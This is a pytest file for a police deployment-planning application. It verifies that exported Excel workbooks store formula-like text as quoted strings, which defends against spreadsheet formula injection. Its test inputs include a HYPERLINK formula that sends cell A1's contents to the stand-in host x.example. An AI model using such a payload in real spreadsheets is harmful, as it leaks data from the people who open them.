"""Text in an exported workbook stays text: a name typed as a formula is never one."""

from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from kawal.planning import exports
from kawal.planning.deployment import DeploymentRow, Section
from kawal.planning.models import Plan
from kawal.spreadsheet_cells import put

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "+62 812 3456 7890",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",  # a leading carriage return is quoted too; XML reads it back as a newline
]


def reopened(data: bytes):
    return load_workbook(BytesIO(data)).active


def test_the_deployment_list_writes_hostile_text_as_text(small):
    plan = Plan(operation=small.operation, version=1, status=Plan.Status.DRAFT)
    rows = [
        DeploymentRow(
            assignment_id=i, stage="voting", post_code=text, post_name=text,
            tps="35.09.01.2001-001", force="polri", nrp=text, name=text, rank=text,
            unit=text, travel_km=1.0,
        )
        for i, text in enumerate(HOSTILE, start=1)
    ]  # fmt: skip
    section = Section(small.districts[0], "Polsek Barat", rows)
    ws = reopened(exports.xlsx(plan, [section]))
    header = next(r for r in range(1, 10) if ws.cell(r, 1).value == "No")
    for i, text in enumerate(HOSTILE, start=1):
        for column in (3, 4, 7, 8, 9, 10):  # Pos, Nama pos, Nama, Pangkat, NRP/NIP, Kesatuan
            cell = ws.cell(header + i, column)
            assert (cell.value, cell.data_type) == (text, "s"), (i, column)
            assert cell.quotePrefix
        assert ws.cell(header + i, 1).value == i  # a number stays a number


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_like_a_formula_is_a_quoted_string(tmp_path, text):
    workbook = Workbook()
    put(workbook.active, 1, 1, text)
    put(workbook.active, 1, 2, "Bripka Joko")
    put(workbook.active, 1, 3, -8.25)
    path = tmp_path / "out.xlsx"
    workbook.save(path)
    ws = load_workbook(path).active
    assert (ws["A1"].value, ws["A1"].data_type, ws["A1"].quotePrefix) == (text, "s", True)
    assert (ws["B1"].value, ws["B1"].quotePrefix) == ("Bripka Joko", False)
    assert (ws["C1"].value, ws["C1"].data_type) == (-8.25, "n")
